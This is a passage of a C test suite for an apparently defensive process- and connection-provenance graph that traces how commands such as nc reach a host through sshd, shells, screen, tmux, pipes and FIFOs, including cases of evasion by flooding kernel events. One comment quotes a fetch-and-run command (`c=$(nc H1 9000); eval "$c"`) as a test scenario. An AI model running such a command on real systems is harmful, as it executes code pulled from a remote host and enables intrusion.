/* H's closed connection (uid 65534) pushed out of the ring of closed ones
 * by 256 closes of another user's (gone processes the graph cannot make):
 * counted as lost events, so S's walk through a pipe cannot be told
 * complete (before: H's entry gone, a complete local chain) */
static void test_dark_evicted(void)
{
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1};
	struct graph *g = graph_new(&cf);
	graph_kev_on(g, 1);
	int pfd[2];
	CHECK(pipe(pfd) == 0);
	pid_t kids[2] = {uid_kid(65534, NULL), uid_kid(65534, pfd)};
	close(pfd[0]);
	close(pfd[1]);
	uid_kid_wait(kids[0], 65534);
	uid_kid_wait(kids[1], 65534);
	uint64_t t0 = mono_now();
	static const uint8_t hl[4] = {10, 0, 0, 2}, far[4] = {192, 0, 2, 7};
	struct graph_kev_sock sk = {kids[0], 778001, t0, AF_INET, 0, 443, 7, 2, hl, far, 0, 0, 0};
	graph_kev_tcp(g, &sk, t0);
	sk.sport = 40001, sk.oldstate = 2, sk.newstate = 1, sk.ts = t0 + 1;
	graph_kev_tcp(g, &sk, t0 + 1);
	sk.oldstate = 1, sk.newstate = 4, sk.ts = t0 + 2;
	graph_kev_tcp(g, &sk, t0 + 2);
	for (int i = 0; i < 256; i++) {
		/* (pids no process has: 4194304 is past pid_max) */
		struct graph_kev_sock o = {4194304 + i, 779000 + (uint64_t)i, t0 + 10, AF_INET, 0, 443,
					   7, 2, hl, far, 65533, 1, 0};
		graph_kev_tcp(g, &o, t0 + 10);
		o.sport = (uint16_t)(41000 + i), o.oldstate = 2, o.newstate = 1, o.ts = t0 + 11;
		graph_kev_tcp(g, &o, t0 + 11);
		o.oldstate = 1, o.newstate = 4, o.ts = t0 + 12;
		graph_kev_tcp(g, &o, t0 + 12);
	}
	struct proc *s = graph_proc_resync(g, kids[1], mono_now());
	CHECK(s != NULL);
	if (s) {
		struct chain_req req = {.host = "h2", .subject = s, .now = mono_now(), .nl = -1};
		cJSON *a = chain_compute(g, &req);
		CHECK(cJSON_IsTrue(cJSON_GetObjectItem(a, "holders_incomplete")));
		cJSON_Delete(a);
	}
	kids_end(kids, 2);
	graph_free(g);
}

/* A process whose fork event the kernel gave and whose exec event it did not
 * is known not to have exec'd (an IMAGE record of it is refused) — until its
 * uid's events are lost: then the missing exec may be the lost one. Another
 * uid's loss leaves it known; a process forked after the loss is known
 * again. (pids past pid_max: no process has them) */
static void test_kev_exec_unsure(void)
{
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1};
	struct graph *g = graph_new(&cf);
	graph_kev_on(g, 1);
	uint64_t t0 = mono_now();
	graph_kev_fork(g, 4194400, 4194399, 1000 * SEC, t0);
	graph_kev_fork_uid(g, 4194400, 1234);
	CHECK(graph_kev_exec_missing(g, 4194400) == 1);
	CHECK(graph_kev_uid_lossy(g, 4321) == 1); /* another uid's: news */
	CHECK(graph_kev_exec_missing(g, 4194400) == 1);
	CHECK(graph_kev_uid_lossy(g, 1234) == 1);
	CHECK(graph_kev_exec_missing(g, 4194400) == 0);
	CHECK(graph_kev_uid_lossy(g, 1234) == 0); /* within the window: said already */
	graph_kev_fork(g, 4194401, 4194399, 1001 * SEC, mono_now());
	graph_kev_fork_uid(g, 4194401, 1234);
	CHECK(graph_kev_exec_missing(g, 4194401) == 1);
	graph_free(g);
}

static void test_dark_connection(void)
{
	CHECK_EQ_INT(dark_scene(65534, 0, 1, 0), 1); /* held now, same uid */
	CHECK_EQ_INT(dark_scene(65534, 1, 1, 0), 1); /* let go of: the past */
	CHECK_EQ_INT(dark_scene(65533, 0, 1, 0), 0); /* another user's */
	CHECK_EQ_INT(dark_scene(65533, 1, 1, 0), 0);
	CHECK_EQ_INT(dark_scene(0, 1, 1, 0), 0);     /* root's: trusted */
	CHECK_EQ_INT(dark_scene(65534, 1, 1, 1), 1); /* S reads a pipe too */
	/* the kernel's events off: a walk through a local channel of a user's
	 * cannot be told complete; one that reads none is the graph's */
	CHECK_EQ_INT(dark_scene(65533, 1, 0, 1), 1);
	CHECK_EQ_INT(dark_scene(65533, 1, 0, 0), 0);
	/* events lost within the window (review 13 lossy evade): S's walk
	 * reads nothing and no connection of its uid is known, yet one let go
	 * of may be missing — everyone's loss (the ring full), S's uid's, or
	 * root's (taken as everyone's): holders_incomplete; another uid's
	 * rationed loss leaves S's walk alone (review 13 kev flood) */
	CHECK_EQ_INT(dark_scene_lost(65533, 1, 1, 0, LOST_ALL), 1);
	CHECK_EQ_INT(dark_scene_lost(65533, 1, 1, 0, 65534), 1);
	CHECK_EQ_INT(dark_scene_lost(65533, 1, 1, 0, 0), 1);
	CHECK_EQ_INT(dark_scene_lost(65533, 1, 1, 0, 65533), 0);
	CHECK_EQ_INT(dark_scene_lost(65533, 1, 1, 1, 65533), 0); /* (through a pipe too) */
	CHECK_EQ_INT(dark_scene_lost(65533, 1, 1, 1, 65534), 1);
}

/* A local TCP connection's two ends, first seen in /proc and linked as peers
 * (as a chain walk does) before the probe: still TCP after it, not taken for
 * a unix socket pair (found by review: the probe's unix shortcut did that),
 * and the end whose CONNECT record came after the /proc read still gets its
 * local address from the TCP dump (chain_reverse.sh failed on that) */
static uint64_t sock_ino(int fd)
{
	struct stat st;
	return fstat(fd, &st) == 0 ? (uint64_t)st.st_ino : 0;
}

static void test_probe_keeps_tcp_peers(void)
{
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1};
	struct graph *g = graph_new(&cf);
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t sl = sizeof(sa);
	int ls = socket(AF_INET, SOCK_STREAM, 0), cs = socket(AF_INET, SOCK_STREAM, 0), as = -1;
	CHECK(ls >= 0 && cs >= 0);
	CHECK(bind(ls, (struct sockaddr *)&sa, sizeof(sa)) == 0 && listen(ls, 1) == 0);
	CHECK(getsockname(ls, (struct sockaddr *)&sa, &sl) == 0);
	CHECK(connect(cs, (struct sockaddr *)&sa, sizeof(sa)) == 0);
	as = accept(ls, NULL, NULL);
	CHECK(as >= 0);
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	CHECK(graph_proc_resync(g, getpid(), (uint64_t)t.tv_sec * SEC + (uint64_t)t.tv_nsec) != NULL);
	struct chan *a = graph_chan(g, HT_CHAN_SOCK, 0, sock_ino(as)),
		    *b = graph_chan(g, HT_CHAN_SOCK, 0, sock_ino(cs));
	CHECK(a != NULL && b != NULL);
	if (a && b) {
		/* the client's CONNECT record is applied after the /proc read that
		 * queued its socket: known TCP now, its local end still unknown */
		struct ht_record r = R(HT_REC_CONNECT, (uint64_t)t.tv_sec * SEC + (uint64_t)t.tv_nsec + 1);
		r.fd = cs;
		r.chan = (struct ht_chan){HT_CHAN_SOCK, 0, sock_ino(cs)};
		r.num = SOCK_STREAM;
		v4(&r.addr, "127.0.0.1", ntohs(sa.sin_port));
		ok(g, getpid(), r);
		chan_link_peers(a, b);
		graph_probe_pending(g, 1);
		CHECK_EQ_INT(a->remote.family, AF_INET);
		CHECK_EQ_INT(b->remote.family, AF_INET);
		CHECK(a->has_local && b->has_local);
	}
	close(as);
	close(cs);
	close(ls);
	graph_free(g);
}

/* a TCP socket may connect() again after a failed attempt: the new attempt is
 * a connection again (a failure marks one attempt, not the socket) */
static void test_reconnect_after_failure(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 10, 1, "/usr/bin/python3", 1);
	connect_tcp(g, 10, 3, 7000, "10.0.0.2", 8001, 2);
	struct ht_record f = R(HT_REC_CONNFAIL, 3);
	f.fd = 3;
	f.chan = (struct ht_chan){HT_CHAN_SOCK, 0, 7000};
	f.num = ECONNREFUSED;
	ok(g, 10, f);
	CHECK(graph_chan(g, HT_CHAN_SOCK, 0, 7000)->failed);
	connect_tcp(g, 10, 3, 7000, "10.0.0.2", 8000, 4);
	struct chan *c = graph_chan(g, HT_CHAN_SOCK, 0, 7000);
	CHECK(!c->failed);
	CHECK_EQ_INT(c->remote.port, 8000);
	graph_free(g);
}

/* issue 10 (4): a PTY record for index N ends every other hold on pts/N. Ending
 * one used to trim its holder's closed holds past the newest 256 inside
 * hold_close — the very hold the PTY loop was on (the oldest), which the loop
 * then read again: a heap use-after-free under ASan that any user could send. */
static void test_pty_purge_trim_uaf(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 10, 1, "/usr/bin/bash", 1);
	image(g, 20, 1, "/usr/bin/script", 2);
	struct ht_record o = R(HT_REC_OPEN, 3);
	o.fd = 3;
	o.chan = (struct ht_chan){HT_CHAN_PTY, 0, 5};
	ok(g, 10, o); /* 10 holds pts/5: its oldest hold */
	/* 512 closed holds newer than it: one more close trims */
	for (int i = 0; i < 512; i++) {
		struct ht_record p = R(HT_REC_PIPE, 10 + 3 * (uint64_t)i);
		p.fd = 4;
		p.fd2 = 5;
		p.chan = (struct ht_chan){HT_CHAN_PIPE, 12, 50000 + (uint64_t)i};
		ok(g, 10, p);
		fdop(g, 10, HT_REC_CLOSE, 4, 0, 11 + 3 * (uint64_t)i);
		fdop(g, 10, HT_REC_CLOSE, 5, 0, 12 + 3 * (uint64_t)i);
	}
	pty(g, 20, 7, -1, 5, 5000); /* a new master for pts/5: 10's hold ends */
	struct proc *p10 = graph_proc(g, 10);
	CHECK(p10 && p10->nfds == 0);
	CHECK(p10 && p10->nclosed <= 2 * 256);
	struct chan *c = graph_chan(g, HT_CHAN_PTY, 0, 5);
	int open10 = 0, open20 = 0;
	for (struct hold *h = c ? c->holds : NULL; h; h = h->cnext) {
		open10 += h->p->pid == 10 && !h->until;
		open20 += h->p->pid == 20 && !h->until;
	}
	CHECK_EQ_INT(open10, 0);
	CHECK_EQ_INT(open20, 1);
	/* and again, with the list trimmed in between: still consistent */
	ok(g, 10, o);
	pty(g, 20, 8, -1, 5, 6000);
	graph_free(g);
}

/* GNU screen quit, then a new screen whose window pty gets the freed index N
 * (tests/func/chain_screen.sh, ~1 run in 6): the old window's shell died by
 * SIGHUP (no EXIT), so the graph still has it on pts/N when the new master's
 * PTY record comes. No hold may span the new master's creation — the kernel
 * frees an index only when no fd of the old pair is left — else the old shell
 * looks like a departed feeder of the new master (it let go of pts/N while the
 * new backend held it) and its session becomes a spurious origin of everything
 * in the new window. Two ways the graph got such a hold:
 *   backdated  the new backend's BIRTH, applied after it called getpt(), read
 *              its /proc/PID/fd — the master already there — and dated that
 *              hold to the fork, before the PTY record (the backend here is
 *              this process, with a real pty);
 *   late_end   the old shell was found dead (sweep, graph_verify_alive) after
 *              the new master was made but before its PTY record was applied:
 *              its hold ended then, after the new master's began.
 * The other processes are pids above PID_MAX_LIMIT (never in /proc: their fds
 * come from records). */
static uint64_t mono_ns(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * SEC + (uint64_t)t.tv_nsec;
}

static void pty_reuse_case(int late_end)
{
	int m = -1;
	unsigned int n = 7;
	if (!late_end && ((m = posix_openpt(O_RDWR | O_NOCTTY)) < 0 || ioctl(m, TIOCGPTN, &n) != 0)) {
		printf("    skipped: no pty (%s)\n", strerror(errno));
		if (m >= 0)
			close(m);
		return;
	}
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1, .trust_claims = 1};
	struct graph *g = graph_new(&cf);
	const pid_t F = 4200000; /* > PID_MAX_LIMIT */
	pid_t be = late_end ? F + 20 : getpid(); /* the new backend */
	uint64_t b = mono_ns() - 30 * SEC, t_pty = b + 7 * SEC + 1000000;
	struct ht_record o;
	image(g, F, 1, "/usr/sbin/sshd", b);
	/* session 1 (sshd F+1, bash F+2 on pty N+100) runs screen: backend
	 * F+3 on pts/N, window shell F+4 on its slave */
	accept_tcp(g, F, 4, 1000, "192.0.2.1", 50000, b + 1 * SEC);
	birth(g, F + 1, F, b + 1 * SEC + 1);
	pty(g, F + 1, 5, 6, n + 100, b + 1 * SEC + 2);
	birth(g, F + 2, F + 1, b + 1 * SEC + 3);
	fdop(g, F + 2, HT_REC_DUP, 6, 0, b + 1 * SEC + 4);
	fdop(g, F + 2, HT_REC_CLOSE, 5, 0, b + 1 * SEC + 5);
	image(g, F + 2, F + 1, "/usr/bin/bash", b + 1 * SEC + 6);
	birth(g, F + 3, F + 2, b + 2 * SEC);
	image(g, F + 3, F + 2, "/usr/bin/screen", b + 2 * SEC + 1);
	pty(g, F + 3, 7, -1, n, b + 2 * SEC + 2);
	birth(g, F + 4, F + 3, b + 2 * SEC + 3);
	fdop(g, F + 4, HT_REC_CLOSERANGE, 0, 100, b + 2 * SEC + 4);
	o = R(HT_REC_OPEN, b + 2 * SEC + 5);
	o.fd = 0;
	o.chan = (struct ht_chan){HT_CHAN_PTY, 0, n};
	ok(g, F + 4, o);
	image(g, F + 4, F + 3, "/usr/bin/bash", b + 2 * SEC + 6);
	/* quit: the backend exits; its window shell dies by SIGHUP (no EXIT) */
	ok(g, F + 3, R(HT_REC_EXIT, b + 5 * SEC));
	/* session 2 (sshd F+11, bash F+12) from another origin starts a new
	 * screen: the backend forks at b+7s and gets pts/N a millisecond later */
	accept_tcp(g, F, 4, 1100, "192.0.2.4", 50001, b + 6 * SEC);
	birth(g, F + 11, F, b + 6 * SEC + 1);
	pty(g, F + 11, 5, 6, n + 101, b + 6 * SEC + 2);
	birth(g, F + 12, F + 11, b + 6 * SEC + 3);
	fdop(g, F + 12, HT_REC_DUP, 6, 0, b + 6 * SEC + 4);
	fdop(g, F + 12, HT_REC_CLOSE, 5, 0, b + 6 * SEC + 5);
	image(g, F + 12, F + 11, "/usr/bin/bash", b + 6 * SEC + 6);
	birth(g, be, F + 12, b + 7 * SEC); /* backdated: read after getpt() */
	if (late_end) {
		image(g, be, F + 12, "/usr/bin/screen", b + 7 * SEC + 1);
		struct proc *old = graph_proc(g, F + 4);
		CHECK(old && old->alive);
		if (old) /* found dead now, before the PTY record is applied */
			CHECK_EQ_INT(graph_verify_alive(g, old, t_pty + 500000000), 0);
	}
	pty(g, be, late_end ? 7 : m, -1, n, t_pty);
	/* its window shell F+13, and nc from it */
	birth(g, F + 13, be, t_pty + 1000000);
	fdop(g, F + 13, HT_REC_CLOSERANGE, 0, 100, t_pty + 1000001);
	o = R(HT_REC_OPEN, t_pty + 1000002);
	o.fd = 0;
	o.chan = (struct ht_chan){HT_CHAN_PTY, 0, n};
	ok(g, F + 13, o);
	image(g, F + 13, be, "/usr/bin/bash", t_pty + 1000003);
	onward(g, F + 14, F + 13, "/usr/bin/nc.openbsd", 5000, b + 8 * SEC);
	/* no hold on pts/N spans the new master's creation */
	struct chan *c = graph_chan(g, HT_CHAN_PTY, 0, n);
	int span = 0;
	for (struct hold *h = c ? c->holds : NULL; h; h = h->cnext)
		span += h->since < t_pty && (!h->until || h->until > t_pty);
	CHECK_EQ_INT(span, 0);
	char want[512];
	struct proc *pb = graph_proc(g, be);
	const char *e = pb ? strrchr(pb->exe, '/') : NULL;
	snprintf(want, sizeof(want), "192.0.2.4:sshd,sshd,bash,%s,bash,nc.openbsd", e ? e + 1 : "?");
	CHECK_CHAINS(g, F + 14, 5000, mono_ns(), want);
	graph_free(g);
	if (m >= 0)
		close(m);
}

static void test_pty_reuse_backdated_master(void)
{
	pty_reuse_case(0);
}

static void test_pty_reuse_late_end(void)
{
	pty_reuse_case(1);
}

/* `c=$(nc H1 9000); eval "$c"` under load (tests/func/chain_handoff.sh, ~1
 * run in 4 with two busy loops): the collector applied the `$(...)` child's
 * BIRTH after the child had run nc, written its output and exited, while the
 * shell had not reaped it yet (it reads to EOF first). A zombie's
 * /proc/PID/fd is there and empty: the read "succeeded", so the child got an
 * empty table instead of its creator's at the fork — no hold on the pipe, so
 * no departed feeder of the shell, and the onward nc had a local chain. A
 * zombie's (or a gone process's) fd table says nothing: the child inherits.
 * The child here is a real zombie of this process; the shell and the onward
 * nc are pids above PID_MAX_LIMIT (never in /proc: their fds come from
 * records). */
static void test_zombie_child_inherits(void)
{
	pid_t z = fork();
	if (z < 0) {
		printf("    skipped: fork (%s)\n", strerror(errno));
		return;
	}
	if (z == 0)
		_exit(0);
	siginfo_t si;
	/* a zombie now (WNOWAIT: not reaped) */
	CHECK_EQ_INT(waitid(P_PID, (id_t)z, &si, WEXITED | WNOWAIT), 0);
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1, .trust_claims = 1};
	struct graph *g = graph_new(&cf);
	const pid_t F = 4200100; /* > PID_MAX_LIMIT */
	uint64_t b = mono_ns() - 30 * SEC;
	image(g, F, 1, "/usr/bin/dash", b);
	mkpipe(g, F, 3, 4, 960, b + 1 * SEC);
	pipe_child(g, z, F, 4, 1, "/usr/bin/nc.openbsd", b + 1 * SEC + 1);
	fdop(g, F, HT_REC_CLOSE, 4, 0, b + 1 * SEC + 3);
	connect_tcp(g, z, 5, 3400, "192.0.2.9", 9000, b + 1 * SEC + 4);
	ok(g, z, R(HT_REC_EXIT, b + 2 * SEC));
	fdop(g, F, HT_REC_CLOSE, 3, 0, b + 2 * SEC + 2); /* EOF */
	onward(g, F + 1, F, "/usr/bin/nc.openbsd", 3401, b + 3 * SEC);
	CHECK_CHAINS(g, F + 1, 3401, mono_ns(), "192.0.2.9:nc.openbsd,dash,nc.openbsd");
	graph_free(g);
	waitpid(z, NULL, 0);
}

/* The same hand-off in the usual order of records: after fork() the parent
 * runs first, and dash closes the write end it gave `$(...)` before the
 * child's BIRTH is sent (it travels on the parent's connection, after that
 * CLOSE). When the child is gone by the time its BIRTH is applied, it
 * inherits its creator's table at the fork: the table now lacks the write
 * end, so the child had no hold on the pipe and the shell no departed feeder
 * (chain_handoff '$(nc) then eval' under load, with the zombie above). What
 * the creator's records closed after the fork is inherited too. */
static void test_creator_closed_after_fork(void)
{
	struct graph *g = mk(600, 1000);
	const pid_t F = 4200200;
	image(g, F, 1, "/usr/bin/dash", 1 * SEC);
	mkpipe(g, F, 3, 4, 960, 2 * SEC);
	fdop(g, F, HT_REC_CLOSE, 4, 0, 2 * SEC + 3); /* the parent, after the fork */
	struct ht_record r = R(HT_REC_BIRTH, 2 * SEC + 5);
	r.num = F;
	r.ts2 = 2 * SEC + 1; /* the fork */
	ok(g, F + 1, r);
	fdop(g, F + 1, HT_REC_DUP, 4, 1, 2 * SEC + 6);
	fdop(g, F + 1, HT_REC_CLOSE, 3, 0, 2 * SEC + 6);
	fdop(g, F + 1, HT_REC_CLOSE, 4, 0, 2 * SEC + 6);
	image(g, F + 1, F, "/usr/bin/nc.openbsd", 2 * SEC + 7);
	connect_tcp(g, F + 1, 5, 3400, "192.0.2.9", 9000, 2 * SEC + 8);
	ok(g, F + 1, R(HT_REC_EXIT, 3 * SEC + 1));
	fdop(g, F, HT_REC_CLOSE, 3, 0, 3 * SEC + 2); /* EOF */
	onward(g, F + 2, F, "/usr/bin/nc.openbsd", 3401, 4 * SEC);
	CHECK_CHAINS(g, F + 2, 3401, 5 * SEC, "192.0.2.9:nc.openbsd,dash,nc.openbsd");
	/* a channel the creator opened after the fork is not the child's */
	mkpipe(g, F, 3, 4, 961, 6 * SEC);
	fdop(g, F, HT_REC_CLOSE, 4, 0, 6 * SEC + 2);
	r = R(HT_REC_BIRTH, 6 * SEC + 3);
	r.num = F;
	r.ts2 = 6 * SEC - 1; /* forked before the pipe */
	ok(g, F + 3, r);
	struct proc *c = graph_proc(g, F + 3);
	CHECK(c && c->nfds == 0);
	graph_free(g);
}

/* A FIFO command queue whose writer — a session's shell, `echo … >fifo` — is
 * gone (tests/func/chain_handoff.sh 'FIFO queue', under load): the sweep
 * found it gone while its OPEN, CLOSE and EXIT still waited in its
 * connection; it ended it then, and its records came from nobody (refused),
 * so the queue had no writer and the command's nc a local chain. A process
 * the sweep finds gone ends at the next sweep, dated when it was found gone,
 * unless its EXIT comes first. (Pids above PID_MAX_LIMIT: never in /proc,
 * so the sweep finds them all gone.) */
static void test_sweep_before_records(void)
{
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1, .trust_claims = 1};
	struct graph *g = graph_new(&cf);
	const pid_t F = 4200300; /* > PID_MAX_LIMIT */
	const struct ht_chan fifo = {HT_CHAN_FIFO, 12, 134};
	uint64_t b = mono_ns() - 30 * SEC;
	image(g, F, 1, "/usr/bin/bash", b); /* the runner: `exec 3<>fifo` */
	struct ht_record o = R(HT_REC_OPEN, b + 1);
	o.fd = 3;
	o.chan = fifo;
	ok(g, F, o);
	image(g, F + 1, 1, "/usr/sbin/sshd", b + 1 * SEC);
	accept_tcp(g, F + 1, 4, 7300, "192.0.2.1", 40000, b + 1 * SEC + 1);
	birth(g, F + 2, F + 1, b + 1 * SEC + 2); /* the session's shell */
	fdop(g, F + 2, HT_REC_CLOSE, 4, 0, b + 1 * SEC + 3);
	image(g, F + 2, F + 1, "/usr/bin/bash", b + 1 * SEC + 4);
	/* its OPEN, CLOSE, EXIT (b + 2 s) wait while a sweep runs */
	graph_gc(g, b + 2 * SEC + 500000000);
	const char *why;
	o.ts = b + 2 * SEC;
	o.fd = 1;
	graph_apply(g, F + 2, 0, &o, o.ts, &why);
	struct ht_record r = R(HT_REC_CLOSE, b + 2 * SEC + 1);
	r.fd = 1;
	graph_apply(g, F + 2, 0, &r, r.ts, &why);
	r = R(HT_REC_EXIT, b + 2 * SEC + 2);
	graph_apply(g, F + 2, 0, &r, r.ts, &why);
	/* the runner reads the command and runs it */
	onward(g, F + 3, F, "/usr/bin/nc.openbsd", 7301, b + 3 * SEC);
	CHECK_CHAINS(g, F + 3, 7301, mono_ns(), "192.0.2.1:sshd,bash,bash,nc.openbsd");
	/* the next sweep ends whom the first found gone, dated then */
	graph_gc(g, b + 4 * SEC);
	struct proc *sshd = graph_proc(g, F + 1);
	CHECK(sshd && !sshd->alive && sshd->exit_ts == b + 2 * SEC + 500000000);
	graph_free(g);
}

/* The `$(...)` nc's EXIT applied while the kernel showed it running — but past
 * the release of its files, not yet a zombie (an exiting task preempted
 * between the two; its shell had read EOF and closed the pipe already): the
 * graph kept its hold on the pipe until it last saw it running, after the
 * shell let go (chain_handoff '$(nc) then eval' under load). What the kernel
 * shows gone when such an EXIT is applied it let go of by the EXIT. The
 * exiting process here is a real child of this one that closed its end of a
 * pipe without a record and stays (a liar's EXIT would look the same: what it
 * still holds stays held). */
static void test_exit_past_files(void)
{
	int ctl[2], ack[2], data[2];
	if (pipe(ctl) || pipe(ack) || pipe(data)) {
		printf("    skipped: pipe (%s)\n", strerror(errno));
		return;
	}
	struct stat dst;
	CHECK_EQ_INT(fstat(data[0], &dst), 0);
	pid_t c = fork();
	if (c == 0) {
		char b = 'r';
		close(ctl[1]);
		close(ack[0]);
		close(data[0]);
		if (write(ack[1], &b, 1) != 1 || read(ctl[0], &b, 1) != 1)
			_exit(1);
		close(data[1]); /* its files released: the exit under way */
		if (write(ack[1], "x", 1) != 1)
			_exit(1);
		pause();
		_exit(0);
	}
	CHECK(c > 0);
	if (c <= 0)
		return;
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1};
	struct graph *g = graph_new(&cf);
	char x;
	CHECK_EQ_INT((int)read(ack[0], &x, 1), 1); /* it holds data[1], not data[0] */
	uint64_t b = mono_ns();
	image(g, c, getpid(), "/usr/bin/nc.openbsd", b); /* reads its fds */
	struct proc *p = graph_proc(g, c);
	struct hold *h = NULL;
	for (struct hold *y = p ? p->holds : NULL; y; y = y->pnext)
		if (y->c->ino == dst.st_ino)
			h = y;
	CHECK(h && !h->until);
	x = 'x';
	CHECK_EQ_INT((int)write(ctl[1], &x, 1), 1);
	CHECK_EQ_INT((int)read(ack[0], &x, 1), 1);
	/* its EXIT (sent at b + 1 ms), applied 5 ms later: still running */
	struct ht_record e = R(HT_REC_EXIT, b + 1000000);
	const char *why;
	CHECK_EQ_INT(graph_apply(g, c, 0, &e, b + 6000000, &why), 0);
	CHECK(p && p->alive);
	CHECK(h && h->until == b + 1000000);
	kill(c, SIGKILL);
	waitpid(c, NULL, 0);
	CHECK_EQ_INT(graph_verify_alive(g, p, b + 2 * SEC), 0);
	CHECK(h && h->until == b + 1000000);
	graph_free(g);
	close(ctl[0]), close(ctl[1]), close(ack[0]), close(ack[1]), close(data[0]), close(data[1]);
}

/* tmux forks libutempter's helper for a new pane with the server's fds (the
 * pane's pty master among them); the helper is gone — found by a sweep, not
 * yet ended (its last records may still come) — when a new master gets its
 * pty index (chain_tmux's next session, under load). The PTY purge ended its
 * hold then, when the index was reused, so it let go of pts/N while the new
 * pair held it: a departed feeder of the new pane's shell, with the old
 * session as a spurious origin. Whom a sweep found gone (or who said it
 * exits) ended then. */
static void test_pty_purge_found_gone(void)
{
	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
				.max_procs = 1000, .use_procfs = 1, .trust_claims = 1};
	struct graph *g = graph_new(&cf);
	const pid_t F = 4200400; /* > PID_MAX_LIMIT: a sweep finds them gone */
	uint64_t b = mono_ns() - 30 * SEC;
	image(g, F, 1, "/usr/bin/tmux", b);
	pty(g, F, 5, -1, 9, b + 1 * SEC);
	birth(g, F + 1, F, b + 2 * SEC); /* utempter: inherits the master */
	graph_gc(g, b + 3 * SEC);       /* found gone */
	image(g, F + 10, 1, "/usr/bin/tmux", b + 4 * SEC);
	pty(g, F + 10, 5, -1, 9, b + 5 * SEC); /* pts/9 again */
	struct chan *c = graph_chan(g, HT_CHAN_PTY, 0, 9);
	int n = 0;
	for (struct hold *h = c ? c->holds : NULL; h; h = h->cnext)
		if (h->p->pid == F + 1) {
			n++;
			CHECK(h->until == b + 3 * SEC);
		}
	CHECK_EQ_INT(n, 1);
	graph_free(g);
}

/* hashed fd tables: many fds, closed in an order that moves entries around
 * (the index must follow the swap-remove), looked up again */
static void test_many_fds(void)
{
	struct graph *g = mk(600, 1000);
	image(g, 10, 1, "/usr/bin/bash", 1);
	for (int i = 0; i < 5000; i++) {
		struct ht_record p = R(HT_REC_PIPE, 10 + (uint64_t)i);
		p.fd = 3 + 2 * i;
		p.fd2 = 4 + 2 * i;
		p.chan = (struct ht_chan){HT_CHAN_PIPE, 12, 70000 + (uint64_t)i};
		ok(g, 10, p);
	}
	struct proc *p = graph_proc(g, 10);
	CHECK(p && p->nfds == 10000);
	for (int i = 0; i < 5000; i += 2) /* the read ends of every other pipe */
		fdop(g, 10, HT_REC_CLOSE, 3 + 2 * i, 0, 10000 + (uint64_t)i);
	CHECK(p && p->nfds == 7500);
	for (int i = 0; i < 5000; i++) {
		/* a dup of a write end onto a closed read end's number */
		if (i % 2 == 0)
			fdop(g, 10, HT_REC_DUP, 4 + 2 * i, 3 + 2 * i, 20000 + (uint64_t)i);
	}
	CHECK(p && p->nfds == 10000);
	int bad = 0;
	for (uint32_t i = 0; p && i < p->nfds; i++) {
		int fd = p->fds[i].fd, k = (fd - 3) / 2;
		if (p->fds[i].h->c->ino != 70000 + (uint64_t)k)
			bad++;
	}
	CHECK_EQ_INT(bad, 0);
	for (int i = 0; i < 10000; i++)
		fdop(g, 10, HT_REC_CLOSE, 3 + i, 0, 30000 + (uint64_t)i);
	CHECK(p && p->nfds == 0);
	struct graph_stats st;
	graph_stats(g, &st);
	CHECK(st.holds <= 2 * 256 + 1); /* closed history trimmed */
	graph_free(g);
}

/* a multi-host-looking memory figure: 10,000 processes with a few holds each */
static void test_memory_per_10k(void)
{
	struct graph *g = mk(600, 200000);
	struct graph_stats st;
	image(g, 10, 1, "/usr/sbin/sshd", 1);
	for (int i = 0; i < 10000; i++) {
		pid_t pid = 10000 + i;
		birth(g, pid, 10, 10 + (uint64_t)i);
		image(g, pid, 10, "/usr/bin/bash", 11 + (uint64_t)i);
		struct ht_record p = R(HT_REC_PIPE, 12 + (uint64_t)i);
		p.fd = 3;
		p.fd2 = 4;
		p.chan = (struct ht_chan){HT_CHAN_PIPE, 12, 100000 + (uint64_t)i};
		ok(g, pid, p);
	}
	graph_stats(g, &st);
	printf("    graph bytes for 10,000 processes: %zu (%.0f per process)\n", st.bytes,
	       (double)st.bytes / 10000);
	CHECK(st.bytes < 64u * 1024 * 1024 / 10); /* 64 MB per 100,000 */
	graph_free(g);
}

/* ---- the recent past of TCP connections (graph_hist.c) ---------------------- */

static struct graph *mk_hist(uint32_t max_closed)
{
	struct graph_conf c = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
			       .max_procs = 1000, .use_procfs = 0, .max_closed = max_closed};
	return graph_new(&c);
}

static int hist_find(struct graph *g, const char *lip, uint16_t lport, const char *rip,
		     uint16_t rport, uint64_t t, uint64_t now, struct graph_closed *e)
{
	struct ht_addr l, r;
	v4(&l, lip, lport);
	v4(&r, rip, rport);
	return graph_hist_find(g, &l, &r, t, now, e);
}

/* a closed connection is found by its 4-tuple with who held it, from/until;
 * not while open, not by another 4-tuple; past the window it says expired,
 * and the window's gc drops it */
static void test_hist_closed_lookup(void)
{
	struct graph *g = mk_hist(0);
	struct graph_closed e;
	struct graph_stats st;
	image(g, 20, 1, "/usr/sbin/sshd", 1 * SEC);
	accept_tcp(g, 20, 4, 500, "10.250.0.1", 40000, 2 * SEC);
	CHECK_EQ_INT(hist_find(g, "10.250.0.2", 22, "10.250.0.1", 40000, 3 * SEC, 3 * SEC, &e), -1);
	fdop(g, 20, HT_REC_CLOSE, 4, 0, 5 * SEC);
	CHECK_EQ_INT((int)graph_hist_count(g), 1);
